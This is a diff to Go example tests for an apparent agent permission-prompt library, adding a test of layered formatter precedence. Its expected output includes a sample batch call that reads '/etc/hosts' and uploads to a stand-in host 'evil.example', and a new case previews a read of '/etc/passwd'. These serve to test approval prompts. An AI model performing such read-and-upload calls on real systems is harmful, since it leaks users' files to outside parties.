@@ -2,6 +2,8 @@ package runtime_test
 
 import (
 	"fmt"
+	"log"
+	"strings"
 
 	"github.com/permgen/permgen/runtime"
 	"github.com/permgen/permgen/runtime/textfmt"
@@ -105,4 +107,38 @@ func ExampleUnwrapper() {
 	// Output:
 	// Current agent requested tool 'batch' → 2 calls: #1 tool 'read' for path '/etc/hosts'; #2 tool 'upload' with input {"to":"https://evil.example"} [tier unknown]. Allow this call?
 	// tool 'read' read
+}
+
+// A host's formatter in a layer is consulted before the stock catalog's,
+// and its decline falls through to the stock formatter, as
+// pi-permission-system's precedence has it.
+func ExampleRegistry_Layer() {
+	stockRead := runtime.FormatterFunc(func(req runtime.Request) (string, bool, error) {
+		path, _ := textfmt.NonEmptyString(mustGet(req.Input, "path"))
+		return "for path '" + path + "'", true, nil
+	})
+	reg := runtime.NewRegistry()
+	if _, err := reg.Register("read", "formatters.yaml#read", stockRead); err != nil { // the stock catalog
+		log.Fatal(err)
+	}
+	host := reg.Layer("host") // consulted before reg
+	if _, err := host.Register("read", "host-app", runtime.FormatterFunc(
+		func(req runtime.Request) (string, bool, error) {
+			v, _ := req.Input.Get("path")
+			if path, ok := textfmt.NonEmptyString(v); ok && strings.HasPrefix(path, "/srv/") {
+				return "a deployed file, " + path, true, nil
+			}
+			return "", false, nil // declines: the stock read answers
+		})); err != nil {
+		log.Fatal(err)
+	}
+
+	d, _ := runtime.NewDispatcher(reg, runtime.Options{})
+	for _, in := range []string{`{"path":"/srv/app.conf"}`, `{"path":"/etc/passwd"}`} {
+		p := d.Preview(runtime.Call{Tool: "read", Input: in})
+		fmt.Printf("%s (%s)\n", p.Text, p.Formatter)
+	}
+	// Output:
+	// a deployed file, /srv/app.conf (host-app)
+	// for path '/etc/passwd' (formatters.yaml#read)
 }
